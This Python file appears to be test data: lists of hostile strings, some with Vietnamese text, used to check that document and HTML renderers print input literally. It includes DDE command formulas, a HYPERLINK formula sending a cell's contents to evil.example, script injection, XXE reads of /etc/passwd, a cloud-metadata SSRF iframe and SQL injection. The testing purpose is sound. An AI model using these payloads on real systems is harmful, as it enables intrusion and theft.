"""Texts that somebody might type or paste to make a renderer do something else than print them.

Sixty for files of cells and runs (Excel, Word), sixty for pages that are made of HTML.
"""

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)",
    '=WEBSERVICE("http://evil.example")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1', "'=1+1", "{=1+1}",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "-2+3+cmd|' /C calc'!A0",
    "=A1", "==1", "=\u200b1+1",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", '<img src="http://evil.example/x.png">', '<img src="file:///etc/passwd">',
    "<style>body{background:url(http://evil.example/)}</style>", '<link rel="stylesheet" href="//evil.example">',
    "url(file:///etc/passwd)", "@import url(http://evil.example/x.css);", "{{ 7|add:7 }}", "{% include 'x' %}",
    "</table></body>", "<!-- mở", "]]>", "<![CDATA[x]]>", "&lt;b&gt; & &amp;", '"><b>', "<?xml version='1.0'?>",
    "<svg onload=alert(1)>", "<iframe src='file:///'></iframe>", "<a href='javascript:alert(1)'>x</a>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
]  # fmt: skip
LETTERS = [
    "\u202etrái phải\u202c", "\u2066cô lập\u2069", "\u200fphải", "\ufeffđầu", "a\u0000b", "a\u0007b", "a\u001bb",
    "a\u0001b", "a\ufffeb", "\x0bngắt\x0cngắt", "e\u0301\u0302\u0303\u0323", "a" * 300, "không\xa0ngắt",
    "_x0041_", "_x000D_", "%s %d {0}", "\\n \\t", "../../etc/passwd", "'; DROP TABLE x; --", "\U0001f3e5 bệnh xá",
]  # fmt: skip
HOSTILE = [*FORMULAS, *MARKUP, *LETTERS]

# Markup, addresses, formulas, directions, controls, entities.
PAYLOADS = (
    # HTML
    "<b>đậm</b>",
    "<script>alert(1)</script>",
    '<img src="file:///etc/passwd">',
    "<img src=x onerror=alert(1)>",
    '<iframe src="http://169.254.169.254/latest/"></iframe>',
    '<object data="file:///etc/hosts" type="text/plain"></object>',
    '<embed src="http://127.0.0.1:9/embed">',
    '<link rel="stylesheet" href="http://127.0.0.1:9/a.css">',
    '<link rel=attachment href="file:///etc/passwd">',
    '<base href="http://127.0.0.1:9/">',
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">',
    '<a href="javascript:alert(1)">bấm</a>',
    '<form action="http://127.0.0.1:9/"><input name=a></form>',
    "</td></tr></table><h1>CHÈN</h1>",
    "</style></head><body>CHÈN",
    "<!-- chú thích -->",
    "<![CDATA[ chữ ]]>",
    "<?xml version='1.0'?>",
    '<p style="position:fixed;top:0">đè</p>',
    "<br><hr><wbr>",
    "<title>Tên khác</title>",
    "<plaintext>",
    # CSS
    "<style>@import 'http://127.0.0.1:9/i.css';</style>",
    "<style>body{display:none}</style>",
    "<style>p{background:url(file:///etc/passwd)}</style>",
    "@import url(http://127.0.0.1:9/x.css);",
    "url(file:///etc/shadow)",
    "} body { background: url(http://127.0.0.1:9/b.png) } .x {",
    "@font-face{font-family:x;src:url(file:///etc/passwd)}",
    '"; content: url(data:text/html,x); "',
    "expression(alert(1))",
    # Templates and formulas
    "{{ header.number }}",
    "{% include 'foot.html' %}",
    "{% load static %}{{ 7|add:7 }}",
    "{# bỏ #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %(name)s {0} {name}",
    '=HYPERLINK("http://127.0.0.1:9/","bấm")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    # SVG, data, XML
    '<svg onload="alert(1)"><image href="file:///etc/passwd"/></svg>',
    '<svg><use href="http://127.0.0.1:9/s.svg#a"/></svg>',
    "data:text/html,<b>x</b>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    '<xi:include href="file:///etc/passwd"/>',
    # Entities
    "&lt;b&gt; &amp; &quot;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62; &#x3c;b&#x3e;",
    "&NotEqualTilde;&nbsp;&zwj;",
    "&#0;&#x202e;&#xfffe;",
    # Directions and unseen characters
    "đúng\u202eod gnurt\u202c sau",
    "a\u2066b\u2069c\u200ed\u200fe",
    "chữ\u200bẩn\ufeffở\u00adgiữa\u2060từ",
    "dòng\u2028hai\u2029ba",
    # Controls
    "chuông\x07 rỗng\x00 thoát\x1b[31m xoá\x7f",
    "cũ\x85 mới\x9b dọc\x0b trang\x0c hết",
    "ghép e\u0302\u0301 và 漢 \U0001f600 \ue000 \ud800",
)
